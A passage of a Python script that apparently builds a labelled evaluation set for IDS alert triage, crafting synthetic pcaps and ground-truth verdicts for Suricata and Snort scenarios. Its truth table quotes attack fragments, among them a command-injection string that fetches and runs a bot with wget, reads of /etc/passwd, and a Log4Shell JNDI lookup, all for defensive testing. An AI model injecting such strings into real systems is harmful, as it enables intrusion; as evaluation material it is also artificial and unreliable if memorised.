             "/xmlrpc.php", "/admin.php", "/db/", "/info.php", "/old/"]
    for i, p in enumerate(paths):
        c = Tcp(cap, rng, att, ephemeral(rng, 32768, 60999), srv, 80, t, ttl_c=58, rtt=0.02).open()
        c.request(http_get("203.0.113.85", p, ua % (i + 1)))
        st = "200 OK" if p in ("/", "/robots.txt") else "404 Not Found"
        c.respond(http_response(c.t, "<html>...</html>", status=st))
        c.close(by_client=False)
        t = c.t + rng.uniform(0.5, 2.5)
    cap.write(os.path.join(out, "traffic.pcap"))


def dhcp_request(rng, mac, xid, hostname, req_ip):
    chaddr = bytes(int(x, 16) for x in mac.split(":"))
    opts = b"\x35\x01\x03" + b"\x32\x04" + ipaddress.ip_address(req_ip).packed + \
        b"\x0c" + bytes([len(hostname)]) + hostname.encode() + \
        b"\x37\x0d\x01\x1c\x02\x03\x0f\x06\x77\x0c\x2c\x2f\x1a\x79\x2a\xff"
    return struct.pack(">BBBBIHH4s4s4s4s", 1, 1, 6, 0, xid, 0, 0, bytes(4), bytes(4), bytes(4),
                       bytes(4)) + chaddr + bytes(10) + bytes(192) + b"\x63\x82\x53\x63" + opts


@scenario
def dhcp_kali_hostname(out):
    """The security team's test laptop, installed with Kali Linux and its default hostname
    'kali', joins the office LAN three times a day (docked after meetings) and asks for its
    previous lease (DHCPREQUEST from 0.0.0.0, INIT-REBOOT); the POLICY rule names Kali."""
    rng = random.Random(5004)
    cap = Capture()
    mac = "02:42:ac:11:00:07"
    t = ts("2024-05-06 08:02:11.000")
    for k in range(3):
        xid = rng.getrandbits(32)
        p = Ether(src=mac, dst="ff:ff:ff:ff:ff:ff") / IP(src="0.0.0.0", dst="255.255.255.255", ttl=64) / \
            UDP(sport=68, dport=67) / Raw(dhcp_request(rng, mac, xid, "kali", "10.12.0.77"))
        cap.add(p, t)
        t += 4 * 3600 + rng.uniform(0, 60)
    cap.write(os.path.join(out, "traffic.pcap"))


@scenario
def telnet_root_linklocal(out):
    """A network engineer configures a lab switch over IPv6 link-local telnet (fe80:: unicast,
    the switch has no global address yet), logs in as root and runs `id`; 'ATTACK-RESPONSES id
    check returned root' fires on the switch's answer, as it does on any root shell's."""
    rng = random.Random(5005)
    cap = Capture()
    eng, sw = "fe80::8a2f:5bff:fe11:2c07", "fe80::2a0:c9ff:fe14:8a31"
    t = ts("2024-08-20 15:40:02.000")
    for k in range(2):
        c = Tcp(cap, rng, eng, ephemeral(rng, 32768, 60999), sw, 23, t, rtt=0.0008,
                mss=1440).open()
        c.respond(b"\xff\xfd\x18\xff\xfd\x20\xff\xfd\x23\xff\xfd\x27")
        c.request(b"\xff\xfc\x18\xff\xfc\x20\xff\xfc\x23\xff\xfc\x27", think=0.01)
        c.respond(b"\r\nlab-sw3 login: ", think=0.05)
        for ch in b"root\r\n":
            c.request(bytes([ch]), think=0.12)
        c.respond(b"Password: ")
        c.request(b"Lab-Only-2024\r\n", think=1.4)
        c.respond(b"\r\nBusyBox v1.36.1 built-in shell (ash)\r\n\r\n# ", think=0.3)
        for line, answer in ((b"id\r\n", b"uid=0(root) gid=0(root) groups=0(root),10(wheel)\r\n# "),
                             (b"ip -6 addr add 2001:db8:10:30::3/64 dev br0\r\n", b"# "),
                             (b"exit\r\n", b"")):
            c.request(line, think=2.5)
            if answer:
                c.respond(answer, think=0.02)
        c.close(by_client=False)
        t = c.t + 1800
    cap.write(os.path.join(out, "traffic.pcap"))


# --------------------------------------------------------------------------------------------
# Engines
# --------------------------------------------------------------------------------------------

def corpus(*parts):
    return os.path.join(CORPUS, *parts)


def rel(path):
    """A corpus file as the engines see it from tests/eval/ (their working directory)."""
    return os.path.relpath(corpus(path), EVAL)


ET2024 = "et-open-2024"
GPL3 = "snort-3.11.1-runs/rules/gpl.snort3.rules"
COMMUNITY3 = "snort-3.11.1-runs/rules/community.snort3.rules"


def run_suricata(sc, outdir):
    pcap = os.path.join(outdir, "traffic.pcap")
    cmd = [SURICATA, "-c", "config/suricata.yaml", "--runmode=single", "-r", pcap,
           "-l", outdir] + sc.get("engine_args", ["-k", "none"])
    if sc.get("rules"):
        for r in sc["rules"]:
            cmd += ["-S", r]
    env = dict(os.environ, TZ="UTC")
    for f in ("eve.json", "fast.log"):
        if os.path.exists(os.path.join(outdir, f)):
            os.remove(os.path.join(outdir, f))
    r = subprocess.run(cmd, cwd=EVAL, env=env, capture_output=True, text=True)
    if r.returncode != 0:
        sys.exit("suricata failed for %s:\n%s" % (sc["id"], r.stderr[-3000:]))
    for junk in ("suricata.log", "stats.log"):
        p = os.path.join(outdir, junk)
        if os.path.exists(p):
            os.remove(p)
    return cmd


def run_snort(sc, outdir):
    pcap = os.path.join(outdir, "traffic.pcap")
    rules = sc["rules"][0]
    cmd = [SNORT, "-c", SNORT_LUA, "--tweaks", "snort3-eval", "--include-path", "config",
           "-R", rules, "-r", pcap, "-l", outdir, "-k", "none", "-q"] + sc.get("engine_args", [])
    env = dict(os.environ, TZ="UTC")
    if sc.get("gpl_filters"):
        env["EVAL_GPL_FILTERS"] = "1"
    for f in os.listdir(outdir):
        if f.startswith(("alert_", "unified2.log")):
            os.remove(os.path.join(outdir, f))
    r = subprocess.run(cmd, cwd=EVAL, env=env, capture_output=True, text=True)
    if r.returncode != 0:
        sys.exit("snort failed for %s:\n%s%s" % (sc["id"], r.stdout[-2000:], r.stderr[-2000:]))
    u2 = [f for f in os.listdir(outdir) if f.startswith("unified2.log.")]
    for f in u2:
        os.rename(os.path.join(outdir, f), os.path.join(outdir, "unified2.log"))
    for f in os.listdir(outdir):  # empty loggers of a run without alerts
        p = os.path.join(outdir, f)
        if f.startswith(("alert_", "unified2.log")) and os.path.getsize(p) == 0:
            os.remove(p)
    return cmd


def engine_alerts(sc, outdir):
    """The alerts the engine wrote, as dicts with gid, sid, rev, msg, src, dst, sport, dport."""
    alerts = []
    if sc["engine"] == "suricata":
        p = os.path.join(outdir, "eve.json")
        for line in open(p):
            rec = json.loads(line)
            if rec.get("event_type") != "alert":
                continue
            a = rec["alert"]
            alerts.append(dict(gid=a["gid"], sid=a["signature_id"], rev=a["rev"],
                               msg=a["signature"], src=rec["src_ip"], dst=rec["dest_ip"],
                               sport=rec.get("src_port"), dport=rec.get("dest_port"),
                               ts=rec["timestamp"]))
    elif sc["engine"] == "snort":
        p = os.path.join(outdir, "alert_json.txt")
        if os.path.exists(p):
            for line in open(p):
                rec = json.loads(line)
                alerts.append(dict(gid=rec["gid"], sid=rec["sid"], rev=rec["rev"],
                                   msg=rec["msg"], src=rec.get("src_addr"),
                                   dst=rec.get("dst_addr"), sport=rec.get("src_port"),
                                   dport=rec.get("dst_port"), ts=rec["timestamp"]))
    return alerts


def expect_matches(e, a):
    gid, sid = e["sid"].split(":")
    if int(gid) != a["gid"] or int(sid) != a["sid"]:
        return False
    for k, ak in (("src", "src"), ("dst", "dst"), ("dest_port", "dport"), ("src_port", "sport")):
        if k in e and str(e[k]) != str(a[ak]):
            return False
    return True


def check(sc):
    outdir = os.path.join(EVAL, sc["id"])
    alerts = engine_alerts(sc, outdir)
    ok = True
    used = [0] * len(sc["expect"])
    for a in alerts:
        m = [i for i, e in enumerate(sc["expect"]) if expect_matches(e, a)]
        if not m:
            print("  UNLABELLED %s: %d:%d:%d %s %s:%s -> %s:%s" % (
                sc["id"], a["gid"], a["sid"], a["rev"], a["msg"], a["src"], a["sport"],
                a["dst"], a["dport"]))
            ok = False
            continue
        verdicts = {sc["expect"][i]["verdict"] for i in m}
        if len(verdicts) > 1:
            print("  AMBIGUOUS %s: %s matches expects %s" % (sc["id"], a, m))
            ok = False
        used[m[0]] += 1
    for i, n in enumerate(used):
        if n == 0:
            print("  UNUSED expect %s #%d %s" % (sc["id"], i, sc["expect"][i]["sid"]))
            ok = False
    return ok, alerts, used


# --------------------------------------------------------------------------------------------
# The scenarios: engine, rules, inputs and truth. `expect` entries follow labels.toml: every
# alert the engine wrote must match exactly one (check), by gid:sid and the optional filters.
# --------------------------------------------------------------------------------------------

SURICATA_VER = "suricata-8.0.6"
SNORT_VER = "snort-3.11.1"
FULL_SET = None  # the rule files of config/suricata.yaml

# Scenarios whose alerts carry no payload (fast.log, Snort 3's alert_fast and alert_full) are
# given their capture, as an analyst would have it, except llmnr6-thunder: the payload-less
# case, judged from address and port alone. Snort 3's alert_full writes no addresses for
# alerts on rebuilt TCP streams, so no capture joins them: the web and IMAP exploits are read
# from the unified2 spool the same run wrote, and seed003-mstream-gif keeps alert_full as the
# case where the sensor's text says almost nothing.
SCENARIOS = [
    dict(id="llmnr-thunder", engine="suricata", version=SURICATA_VER,
         rules=[rel("py-idstools/et-open-2017/emerging-p2p.rules")],
         inputs=["eve.json"], args=["--pcap", "traffic.pcap"],
         summary="", expect=[]),
    dict(id="llmnr6-thunder", engine="suricata", version=SURICATA_VER, rules=FULL_SET,
         inputs=["fast.log"], args=["--year", "2024"],
         summary="", expect=[]),
    dict(id="seed003-mstream-gif", engine="snort", version=SNORT_VER,
         rules=["rules/mstream-snort18.rules"],
         inputs=["alert_full.txt"], args=["--year", "2024", "--pcap", "traffic.pcap"],
         summary="", expect=[]),
    dict(id="testmyids", engine="snort", version=SNORT_VER, rules=[rel(GPL3)], gpl_filters=True,
         inputs=["alert_json.txt"], args=[], summary="", expect=[]),
    dict(id="dropbox-lansync", engine="suricata", version=SURICATA_VER, rules=FULL_SET,
         inputs=["eve.json"], args=[], summary="", expect=[]),
    dict(id="msft-connecttest", engine="suricata", version=SURICATA_VER, rules=FULL_SET,
         inputs=["fast.log"], args=["--year", "2024", "--pcap", "traffic.pcap"], summary="", expect=[]),
    dict(id="wpad-dat", engine="suricata", version=SURICATA_VER, rules=FULL_SET,
         inputs=["eve.json"], args=[], summary="", expect=[]),
    dict(id="ntp-scanner-monlist", engine="suricata", version=SURICATA_VER, rules=FULL_SET,
         inputs=["eve.json"], args=[], summary="", expect=[]),
    # ---- true positives
    dict(id="ssh-bruteforce", engine="suricata", version=SURICATA_VER, rules=FULL_SET,
         inputs=["firewall.log", "eve.json"], args=["--year", "2024", "--pcap", "traffic.pcap"], summary="", expect=[]),
    dict(id="trinoo-master", engine="snort", version=SNORT_VER, rules=[rel(GPL3)], gpl_filters=True,
         inputs=["alert_fast.txt"], args=["--year", "2000", "--pcap", "traffic.pcap"], summary="", expect=[]),
    dict(id="mstream-agents", engine="snort", version=SNORT_VER, rules=[rel(GPL3)], gpl_filters=True,
         inputs=["unified2.log"], args=[], summary="", expect=[]),
    dict(id="tfn-icmp", engine="snort", version=SNORT_VER, rules=[rel(GPL3)], gpl_filters=True,
         inputs=["ipchains.log", "alert_json.txt"], args=["--year", "2000"], summary="", expect=[]),
    dict(id="wordpress-sqli", engine="snort", version=SNORT_VER, rules=[rel(GPL3)], gpl_filters=True,
         inputs=["unified2.log"], args=["--year", "2024", "--pcap", "traffic.pcap"], summary="", expect=[]),
    dict(id="web-traversal", engine="snort", version=SNORT_VER, rules=[rel(GPL3)], gpl_filters=True,
         inputs=["unified2.log"], args=[], summary="", expect=[]),
    dict(id="web-cmd-injection", engine="snort", version=SNORT_VER, rules=[rel(GPL3)], gpl_filters=True,
         inputs=["alert_json.txt"], args=[], summary="", expect=[]),
    dict(id="log4shell-ipv6", engine="suricata", version=SURICATA_VER, rules=FULL_SET,
         inputs=["eve.json"], args=[], summary="", expect=[]),
    dict(id="imap-nop-sled", engine="snort", version=SNORT_VER, rules=[rel(GPL3)], gpl_filters=True,
         inputs=["unified2.log"], args=["--year", "2024", "--pcap", "traffic.pcap"], summary="", expect=[]),
    dict(id="port-scan-sql", engine="suricata", version=SURICATA_VER, rules=FULL_SET,
         inputs=["asa.log", "fast.log"], args=["--year", "2024", "--pcap", "traffic.pcap"], summary="", expect=[]),
    dict(id="magania-c2", engine="suricata", version=SURICATA_VER, rules=FULL_SET,
         inputs=["eve.json"], args=[], summary="", expect=[]),
    dict(id="vpnoverdns-tunnel", engine="suricata", version=SURICATA_VER, rules=FULL_SET,
         inputs=["fast.log"], args=["--year", "2024", "--pcap", "traffic.pcap"], summary="", expect=[]),
    dict(id="eternalblue-smb", engine="suricata", version=SURICATA_VER, rules=FULL_SET,
         inputs=["asa.log", "eve.json"], args=["--year", "2024"], summary="", expect=[]),
    dict(id="icmp-flood", engine="snort", version=SNORT_VER, rules=[rel(GPL3)], gpl_filters=True,
         inputs=["alert_fast.txt"], args=["--year", "2024", "--pcap", "traffic.pcap"], summary="", expect=[]),
    # ---- false positives
    dict(id="dir-tutorial-page", engine="snort", version=SNORT_VER, rules=[rel(GPL3)], gpl_filters=True,
         inputs=["unified2.log"], args=[], summary="", expect=[]),
    dict(id="docs-site-passwd", engine="snort", version=SNORT_VER, rules=[rel(GPL3)], gpl_filters=True,
         inputs=["alert_json.txt"], args=[], summary="", expect=[]),
    dict(id="uptime-monitor-ping", engine="snort", version=SNORT_VER, rules=[rel(GPL3)], gpl_filters=True,
         inputs=["alert_fast.txt"], args=["--year", "2024", "--pcap", "traffic.pcap"], summary="", expect=[]),
    dict(id="fastq-ftp-download", engine="snort", version=SNORT_VER, rules=[rel(GPL3)], gpl_filters=True,
         inputs=["alert_full.txt"], args=["--year", "2024", "--pcap", "traffic.pcap"], summary="", expect=[]),
    dict(id="elf-rsync-mirror", engine="snort", version=SNORT_VER, rules=[rel(GPL3)], gpl_filters=True,
         inputs=["unified2.log"], args=[], summary="", expect=[]),
    # ---- benign triggers
    dict(id="ssdp-discovery", engine="suricata", version=SURICATA_VER, rules=FULL_SET,
         inputs=["fast.log"], args=["--year", "2024", "--pcap", "traffic.pcap"], summary="", expect=[]),
    dict(id="script-user-agents", engine="suricata", version=SURICATA_VER, rules=FULL_SET,
         inputs=["eve.json"], args=[], summary="", expect=[]),
    dict(id="nikto-authorised", engine="suricata", version=SURICATA_VER, rules=FULL_SET,
         inputs=["eve.json"], args=[], summary="", expect=[]),
    dict(id="dhcp-kali-hostname", engine="suricata", version=SURICATA_VER, rules=FULL_SET,
         inputs=["fast.log"], args=["--year", "2024", "--pcap", "traffic.pcap"], summary="", expect=[]),
    dict(id="telnet-root-linklocal", engine="snort", version=SNORT_VER, rules=[rel(GPL3)],
         gpl_filters=True, inputs=["alert_json.txt"], args=[], summary="", expect=[]),
    # ==== end of table ====
]


# --------------------------------------------------------------------------------------------
# The truth, per scenario: a one-line summary and one expect per kind of alert the engine
# wrote. Every verdict follows from how the scenario function made the traffic. `causes` are
# alternative words (or evidence ids) of which a correct explanation of a benign alert names at
# least one; for attacks they say what the attack is.
# --------------------------------------------------------------------------------------------

FP, BT, TP = "false_positive", "benign_trigger", "true_positive"


def x(sid, verdict, causes, why, **kw):
    e = dict(sid=sid, verdict=verdict, causes=causes, why=why)
    e.update(kw)
    return e


TRUTH = {
    "llmnr-thunder": ("LLMNR name resolution on the LAN read as Xunlei/Thunder P2P", [
        x("1:2009099", FP, ["LLMNR", "link-local multicast", "224.0.0.252"],
          "Windows LLMNR queries to 224.0.0.252:5355 whose transaction id happens to be 0x3200; "
          "no Thunder client runs")]),
    "llmnr6-thunder": ("LLMNR over IPv6 (ff02::1:3) read as Thunder P2P by rev 4", [
        x("1:2009099", FP, ["LLMNR", "link-local multicast", "ff02::1:3"],
          "LLMNR queries to ff02::1:3:5355 from link-local addresses; the rule's 224.0.0.0/4 "
          "exclusion does not cover IPv6 multicast")]),
    "seed003-mstream-gif": ("GIF images in HTTP responses to a client port 12754 read as mstream", [
        x("1:247", FP, ["GIF", "HTTP response", "ephemeral", "image"],
          "the '>' is a byte of GIF image data the web server sends to a client whose NAT'ed "
          "source port is 12754; no mstream handler exists")]),
    "testmyids": ("Analysts fetch testmyids.com, a page built to fire the id-check rule", [
        x("1:498", BT, ["testmyids", "test page", "sensor test"],
          "testmyids.com serves 'uid=0(root)' on purpose so that sensors alert; fetched by "
          "the site's analysts")]),
    "dropbox-lansync": ("Dropbox LAN sync discovery broadcasts of allowed desktop clients", [
        x("1:2012648", BT, ["Dropbox", "LAN sync", "lansync", "17500"],
          "Dropbox clients broadcast their discovery beacon to UDP 17500 every 30 s; the site "
          "allows Dropbox")]),
    "msft-connecttest": ("Windows NCSI connectivity checks", [
        x("1:2031071", BT, ["NCSI", "connectivity", "msftconnecttest"],
          "each laptop fetches /connecttest.txt when it joins a network, as Windows does")]),
    "wpad-dat": ("Clients fetch the site's own WPAD proxy configuration", [
        x("1:2022913", BT, ["WPAD", "proxy auto", "PAC", "wpad.dat"],
          "WinHTTP's auto-proxy service fetches /wpad.dat from the site's PAC server, which "
          "the site runs on purpose")]),
    "ntp-scanner-monlist": ("The site's scheduled vulnerability scanner probes NTP for MON_LIST", [
        x("1:2017918", BT, ["scanner", "vulnerability scan", "authorised", "monlist"],
          "10.0.5.10 is the site's own scanner on its scheduled run; the servers answer with "
          "an error, no amplification")]),
    "ssh-bruteforce": ("An Internet host guesses passwords on the public SSH server", [
        x("1:2001219", TP, ["brute force", "password guessing", "SSH"],
          "48 libssh connections from one outside host in 16 minutes, each with password "
          "attempts, all answered by the server")]),
    "trinoo-master": ("A trinoo master on an inside host, its attacker and its daemons", [
        x("1:233", TP, ["trinoo", "DDoS", "master"],
          "the attacker logs in to the trinoo master on 27665 with its default password"),
        x("1:232", TP, ["trinoo", "DDoS", "daemon"],
          "trinoo daemons register with the master: *HELLO* to 31335"),
        x("1:223", TP, ["trinoo", "DDoS", "daemon"],
          "daemons answer the master's 'png l44adsl' with PONG to 31335")]),
    "mstream-agents": ("An mstream handler drives agents on inside hosts", [
        x("1:245", TP, ["mstream", "DDoS", "agent"],
          "the handler pings its agents on 10498; they answer pong"),
        x("1:244", TP, ["mstream", "DDoS", "agent"],
          "the handler orders a stream flood: 'stream/<target>:<secs>' to 10498")]),
    "tfn-icmp": ("Tribe Flood Network control traffic over ICMP echo replies", [
        x("1:228", TP, ["TFN", "Tribe Flood Network", "DDoS"], "TFN client command, icmp_id 456"),
        x("1:251", TP, ["TFN", "Tribe Flood Network", "DDoS"], "TFN client command, icmp_id 51201"),
        x("1:222", TP, ["TFN", "tfn2k", "DDoS"], "tfn2k-style id 0 echo reply with 'A' padding"),
        x("1:238", TP, ["TFN", "Tribe Flood Network", "shell"],
          "the TFN server on the inside host reports a bound shell"),
        x("1:408", TP, ["TFN", "Tribe Flood Network", "DDoS"],
          "every unsolicited echo reply here is a TFN control packet; the generic rule fires "
          "on attack traffic")]),
    "wordpress-sqli": ("UNION-based SQL injection against the site's WordPress blog", [
        x("1:100000701", TP, ["SQL injection", "UNION"],
          "quote and UNION SELECT injected in the paged parameter; the server answers with SQL "
          "errors and data")]),
    "web-traversal": ("Directory traversal to /etc/passwd through a download script", [
        x("1:1113", TP, ["directory traversal", "../"],
          "../ sequences climbing out of the download folder; the server returns the files"),
        x("1:1122", TP, ["/etc/passwd", "directory traversal"],
          "the traversal targets /etc/passwd and the server returns it"),
        x("1:1372", TP, ["/etc/shadow", "directory traversal"],
          "the same attacker tries /etc/shadow")]),
    "web-cmd-injection": ("OS command injection in a CGI on a DMZ host", [
        x("1:1333", TP, ["command injection", "id"], "';id' appended to the CGI parameter"),
        x("1:1331", TP, ["command injection", "uname"], "';uname -a' appended"),
        x("1:1330", TP, ["command injection", "wget", "download"],
          "';wget http://.../x;chmod 777 x;./x' fetches and runs a bot"),
        x("1:1147", TP, ["command injection", "cat"], "';cat /etc/passwd' appended"),
        x("1:1122", TP, ["/etc/passwd", "command injection"], "reads /etc/passwd by injection")]),
    "log4shell-ipv6": ("Log4Shell JNDI injection over IPv6 against the web server", [
        x("1:2034661", TP, ["log4j", "Log4Shell", "JNDI", "CVE-2021-44228"],
          "${jndi:ldap://...} in headers and URI, sent to the site's web server over IPv6"),
        x("1:58722", TP, ["log4j", "Log4Shell", "JNDI"], "same exploit requests"),
        x("1:58723", TP, ["log4j", "Log4Shell", "JNDI"], "same exploit requests"),
        x("1:58737", TP, ["log4j", "Log4Shell", "JNDI"], "same exploit requests"),
        x("1:58742", TP, ["log4j", "Log4Shell", "JNDI"], "same exploit requests"),
        x("1:58744", TP, ["log4j", "Log4Shell", "JNDI"], "same exploit requests")]),
    "imap-nop-sled": ("IMAP LOGIN overflow with a NOP sled and shellcode", [
        x("1:648", TP, ["NOP sled", "shellcode", "overflow"],
          "600 bytes of 0x90, execve shellcode and return addresses in the LOGIN argument"),
        x("1:1842", TP, ["overflow", "IMAP", "LOGIN"], "the oversized LOGIN argument itself")]),
    "port-scan-sql": ("SYN sweep of the DMZ for database ports from the Internet", [
        x("1:2010937", TP, ["scan", "sweep"], "one outside host SYNs 3306 on 12 DMZ hosts"),
        x("1:2010935", TP, ["scan", "sweep"], "then 1433 on the same hosts"),
        x("1:2010939", TP, ["scan", "sweep"], "then 5432"),
        x("1:2010936", TP, ["scan", "sweep"], "then 1521")]),
    "magania-c2": ("An infected workstation beacons to its Magania/PinkStats C2", [
        x("1:24015", TP, ["C2", "beacon", "Magania"],
          "periodic GET .asp?mac=...&ver=... with User-Agent 'Google page', answered by the C2"),
        x("1:2017067", TP, ["C2", "beacon", "user agent"],
          "the same beacons: the malware's fixed User-Agent")]),
    "vpnoverdns-tunnel": ("An unauthorised VPN-over-DNS tunnel from a laptop", [
        x("1:2018438", TP, ["DNS tunnel", "vpnoverdns", "tunnel"],
          "the tunnel client resolves its service name before each session and moves data in "
          "long TXT queries")]),
    "eternalblue-smb": ("EternalBlue-style MS17-010 exploit against an exposed SMB server", [
        x("1:41978", TP, ["EternalBlue", "MS17-010", "SMB", "exploit"],
          "Trans2 request whose DataCount exceeds TotalDataCount, after a null session to IPC$"),
        x("1:2102465", TP, ["IPC$", "SMB", "null session", "EternalBlue"],
          "the exploit's tree connect to IPC$")]),
    "icmp-flood": ("A ping flood of full-size echo requests from three outside hosts", [
        x("1:366", TP, ["flood", "ping flood", "ICMP flood"],
          "ping -f style 1472-byte echo requests at 8 per second per source"),
        x("1:368", TP, ["flood", "ping flood", "ICMP flood"], "the same flood packets"),
        x("1:373", TP, ["flood", "ping flood", "ICMP flood"], "the same flood packets"),
        x("1:480", TP, ["flood", "ping flood", "ICMP flood"],
          "the same flood packets; their incrementing payload holds '89:;<=>?'")]),
    "dir-tutorial-page": ("A public tutorial page quotes Windows console output", [
        x("1:1292", FP, ["tutorial", "web page", "HTTP response", "HTML"],
          "'Volume Serial Number' is sample output in an HTML tutorial the web server serves; "
          "no shell runs"),
        x("1:2123", FP, ["tutorial", "web page", "HTTP response", "HTML"],
          "the XP console banner is quoted in the same HTML page")]),
    "docs-site-passwd": ("Documentation URLs that name /etc/passwd and ../", [
        x("1:1122", FP, ["documentation", "URL", "page name", "search"],
          "the URL is an article about the /etc/passwd format or a search for it; the server "
          "returns HTML"),
        x("1:1113", FP, ["relative", "query parameter", "URL", "documentation"],
          "'../images/logo.png' is an example value in a wiki URL, answered with HTML")]),
    "uptime-monitor-ping": ("Zero-length echo requests from an uptime monitor read as Nmap", [
        x("1:469", FP, ["monitor", "monitoring", "uptime", "ping"],
          "an uptime monitor pings every minute with empty echo requests and gets replies; no "
          "Nmap host discovery"),
        x("116:434", FP, ["monitor", "monitoring", "uptime", "ping"],
          "Snort's decoder rule for the same empty echo requests")]),
    "fastq-ftp-download": ("FASTQ quality strings over FTP read as an inc-ebx NOP sled", [
        x("1:1390", FP, ["FASTQ", "file transfer", "FTP", "download", "text"],
          "runs of 'C' are Phred quality scores in a sequencing file fetched by FTP")]),
    "elf-rsync-mirror": ("0x90 alignment padding of a binary pulled by rsync", [
        x("1:648", FP, ["padding", "binary", "file transfer", "download", "rsync"],
          "the 0x90 runs are alignment padding between functions of an executable the "
          "mirror sends")]),
    "ssdp-discovery": ("A media controller's UPnP discovery read as an SSDP amplification scan", [
        x("1:2019102", BT, ["SSDP", "UPnP", "discovery", "M-SEARCH"],
          "the controller's periodic unicast M-SEARCH ssdp:all to speakers it knows, on the LAN")]),
    "script-user-agents": ("Scripts and integrations with curl and Python user agents", [
        x("1:2013028", BT, ["curl", "script", "backup", "user agent"],
          "the nightly backup job uploads with curl"),
        x("1:2013031", BT, ["Python", "script", "monitoring", "user agent"],
          "a monitoring job polls a vendor API with Python-urllib"),
        x("1:2017515", BT, ["Python", "python-requests", "API", "integration", "user agent"],
          "a partner's integration calls the site's API with python-requests")]),
    "nikto-authorised": ("The contracted penetration tester's Nikto scan", [
        x("1:2002677", BT, ["scanner", "Nikto", "authorised", "penetration test"],
          "Nikto from the tester's agreed address in the agreed window"),
        x("1:2031502", BT, ["scanner", "Nikto", "authorised", "penetration test"],
          "Nikto's /.env probe in the same scan")]),
    "dhcp-kali-hostname": ("The security team's Kali laptop joins the LAN", [
        x("1:2022973", BT, ["Kali", "DHCP", "hostname"],
          "DHCPREQUEST with hostname 'kali' from the team's own test laptop")]),
    "telnet-root-linklocal": ("An engineer's root telnet session to a lab switch over link-local", [
        x("1:498", BT, ["administrator", "admin", "telnet", "root shell", "link-local"],
          "the engineer runs id in an authorised root session; the switch answers uid=0(root)")]),
}


def _merge_truth():
    for sc in SCENARIOS:
        summary, expects = TRUTH[sc["id"]]
        sc["summary"], sc["expect"] = summary, expects


_merge_truth()


# --------------------------------------------------------------------------------------------
# Label file and inventory
# --------------------------------------------------------------------------------------------

def toml_str(s):
    return json.dumps(s, ensure_ascii=False)


def toml_list(xs):
    return "[" + ", ".join(toml_str(v) for v in xs) + "]"


# What fpx is given beside the inputs: the site's HOME_NET, and the rule set the sensor ran
# (read in place from the corpus, relative to tests/eval/).
SURICATA_RULE_ARGS = ["--rules", "../../../shared/corpus/et-open-2024",
                      "--rules", "../../../shared/corpus/snort-community-rules-2022",
                      "--rules", "../../../shared/corpus/suricata-rules"]


def fpx_args(sc):
    args = ["--home-net", HOME_NET]
    if sc["engine"] == "suricata":
        if sc.get("rules"):
            for r in sc["rules"]:
                args += ["--rules", r]
        else:
            args += SURICATA_RULE_ARGS
    else:
        for r in sc["rules"]:
            args += ["--rules", r]
    extra = list(sc.get("args", []))
    out = []
    path_next = False
    for a in extra:
        out.append(sc["id"] + "/" + a if path_next else a)
        path_next = a == "--pcap"
    return args + out


def write_labels():
    lines = [
        "# The labelled evaluation set of `fpx eval` (see README.md beside this file).",
        "# Written by scripts/make-eval.py labels; do not edit by hand, edit the script.",
        "# Paths are relative to this file's folder; rule sets are read in place from the",
        "# public corpus beside the repository (../../../shared/corpus).",
        "",
    ]
    for sc in SCENARIOS:
        lines += ["[[scenario]]",
                  "id = %s" % toml_str(sc["id"]),
                  "summary = %s" % toml_str(sc["summary"]),
                  "engine = %s" % toml_str(sc["version"]),
                  "inputs = %s" % toml_list(sc["id"] + "/" + i for i in sc["inputs"]),
                  "args = %s" % toml_list(fpx_args(sc)),
                  ""]
        for e in sc["expect"]:
            lines.append("[[scenario.expect]]")
            lines.append("sid = %s" % toml_str(e["sid"]))
            for k in ("src", "dst"):
                if k in e:
                    lines.append("%s = %s" % (k, toml_str(e[k])))
            if "dest_port" in e:
                lines.append("dest_port = %d" % e["dest_port"])
            lines.append("verdict = %s" % toml_str(e["verdict"]))
            lines.append("causes = %s" % toml_list(e["causes"]))
            lines.append("why = %s" % toml_str(e["why"]))
            lines.append("")
    with open(os.path.join(EVAL, "labels.toml"), "w") as f:
        f.write("\n".join(lines))
    print("wrote tests/eval/labels.toml: %d scenarios" % len(SCENARIOS))


FORMAT_NAMES = {"eve.json": "EVE JSON", "fast.log": "Suricata fast.log",
                "alert_fast.txt": "Snort 3 alert_fast", "alert_full.txt": "Snort 3 alert_full",
                "alert_json.txt": "Snort 3 alert_json", "unified2.log": "unified2",
                "firewall.log": "netfilter LOG", "ipchains.log": "ipchains",
                "asa.log": "Cisco ASA"}


def write_inventory():
    rows = []
    totals = {}
    for sc in SCENARIOS:
        ok, alerts, used = check(sc)
        counts = {}
        for e, n in zip(sc["expect"], used):
            counts[e["verdict"]] = counts.get(e["verdict"], 0) + n
        for k, v in counts.items():
            totals[k] = totals.get(k, 0) + v
        pcap = os.path.join(EVAL, sc["id"], "traffic.pcap")
        kept = os.path.exists(pcap) and os.path.getsize(pcap) <= MAX_KEPT_PCAP
        rows.append("| `%s` | %s | %s | %d | %s | %s |" % (
            sc["id"], sc["version"], ", ".join(FORMAT_NAMES.get(i, i) for i in sc["inputs"]),
            len(alerts), ", ".join("%s %d" % (k, v) for k, v in sorted(counts.items())),
            sc["summary"] + ("" if kept else " (capture rebuilt by `craft`, not kept)")))
    text = open(os.path.join(EVAL, "README.md")).read() if os.path.exists(
        os.path.join(EVAL, "README.md")) else ""
    start, end = "<!-- inventory -->", "<!-- /inventory -->"
    table = "\n".join([start, "", "| scenario | engine | inputs | alerts | truth | what |",
                       "|---|---|---|---|---|---|"] + rows + [
        "", "Total: %d alerts in %d scenarios (%s)." % (
            sum(totals.values()), len(SCENARIOS),
            ", ".join("%s %d" % kv for kv in sorted(totals.items()))), "", end])
    if start in text:
        text = text[:text.index(start)] + table + text[text.index(end) + len(end):]
    else:
        text = text + "\n" + table + "\n"
    with open(os.path.join(EVAL, "README.md"), "w") as f:
        f.write(text)
    print("wrote tests/eval/README.md inventory")


# --------------------------------------------------------------------------------------------
# Main
# --------------------------------------------------------------------------------------------

def selected(names):
    if not names:
        return SCENARIOS
    out = [s for s in SCENARIOS if s["id"] in names]
    missing = set(names) - {s["id"] for s in out}
    if missing:
        sys.exit("unknown scenario(s): %s" % ", ".join(sorted(missing)))
    return out


def do_craft(scs):
    for sc in scs:
        outdir = os.path.join(EVAL, sc["id"])
        os.makedirs(outdir, exist_ok=True)
        SCENARIO_FUNCS[sc["id"]](outdir)
        p = os.path.join(outdir, "traffic.pcap")
        print("crafted %-28s %7d bytes%s" % (sc["id"], os.path.getsize(p),
              "" if os.path.getsize(p) <= MAX_KEPT_PCAP else " (too large to keep)"))
    write_gitignore()


